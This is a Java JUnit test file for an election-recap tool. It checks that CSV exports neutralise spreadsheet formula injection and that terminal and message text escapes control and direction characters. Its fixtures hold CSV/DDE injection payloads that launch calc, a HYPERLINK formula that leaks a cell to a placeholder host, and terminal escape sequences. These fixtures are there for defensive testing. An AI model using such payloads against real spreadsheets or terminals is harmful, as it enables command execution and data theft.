package id.rekap.core.common;

import static org.assertj.core.api.Assertions.assertThat;

import id.rekap.core.check.Finding;
import id.rekap.core.check.FindingsDocument;
import id.rekap.core.check.Severity;
import id.rekap.core.election.ContestCode;
import id.rekap.core.recap.RecapCsv;
import id.rekap.core.recap.RecapLevel;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Issue 15, requirement 5: what Rekap writes cannot attack its reader. CSV cells that a spreadsheet
 * would run as a formula are neutralised as the entry template's are, and text that reaches a
 * terminal or a message carries no control or direction character.
 */
class SafeOutputTest {
  /** Region names as a hostile master-data file could carry them. */
  static final List<String> HOSTILE =
      List.of(
          "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"Klik\")",
          "+62-21-555",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\tTAB",
          "\rCR");

  private static Map<String, Object> row(String code, String name) {
    Map<String, Object> r = new LinkedHashMap<>();
    r.put("code", code);
    r.put("name", name);
    r.put("valid", 5);
    return r;
  }

  @Test
  void recapCsvCellsThatWouldBeFormulasAreText() {
    List<Map<String, Object>> rows = new java.util.ArrayList<>();
    for (int i = 0; i < HOSTILE.size(); i++) {
      rows.add(row("310101100" + i, HOSTILE.get(i)));
    }
    String csv = RecapCsv.of(Map.of("rows", rows));
    List<List<String>> parsed = Csv.parse(csv);
    assertThat(parsed).hasSize(1 + HOSTILE.size());
    for (int i = 0; i < HOSTILE.size(); i++) {
      String cell = parsed.get(i + 1).get(1);
      assertThat(cell).as("row %d", i).isEqualTo("'" + HOSTILE.get(i));
      assertThat(Csv.isFormulaLead(cell.charAt(0))).isFalse();
    }
    assertThat(parsed.get(1).get(2)).isEqualTo("5");
  }

  @Test
  void findingsCsvCellsAreNeutralisedToo() {
    Finding f =
        new Finding(
            "R5",
            Severity.ERROR,
            ContestCode.PPWP,
            RecapLevel.TPS,
            "3101011001001",
            new MessageRef("=cmd|' /C calc'!A0"),
            Map.of("total", -1));
    List<List<String>> parsed = Csv.parse(FindingsDocument.csv(List.of(f), Messages.INDONESIAN));
    assertThat(parsed.get(1).get(5)).isEqualTo("'=cmd|' /C calc'!A0");
    assertThat(parsed.get(1).get(6)).isEqualTo("{\"total\":-1}");
  }

  @Test
  void theTemplateAndTheOtherCsvsNeutraliseAlike() {
    for (String h : HOSTILE) {
      assertThat(Csv.defused(h)).startsWith("'");
    }
    assertThat(Csv.defused("KEPULAUAN SERIBU UTARA")).isEqualTo("KEPULAUAN SERIBU UTARA");
    assertThat(Csv.cell("a,b")).isEqualTo("\"a,b\"");
  }

  @Test
  void controlAndDirectionCharactersAreEscapedVisibly() {
    String name = "DESA\u001B]8;;http://x\u0007KLIK\u001B]8;;\u0007\nERROR palsu\r\u202Eedoc";
    String safe = SafeText.inline(name);
    assertThat(safe)
        .doesNotContain("\u001B", "\u0007", "\n", "\r", "\u202E")
        .contains("\\u001B", "\\u0007", "\\u000A", "\\u000D", "\\u202E")
        .startsWith("DESA");
    assertThat(SafeText.inline("KEPULAUAN SERIBU")).isEqualTo("KEPULAUAN SERIBU");
    assertThat(SafeText.inline("\u009B31m")).isEqualTo("\\u009B31m");
  }

  @Test
  void messagesNeverCarryControlCharactersFromTheirArguments() {
    String m =
        Messages.get(
            Locale.ENGLISH, "input.error.missing", java.nio.file.Path.of("a\u001B[2Jb\nc.json"));
    assertThat(m).doesNotContain("\u001B").doesNotContain("\n").contains("\\u001B[2Jb\\u000Ac");
  }
}
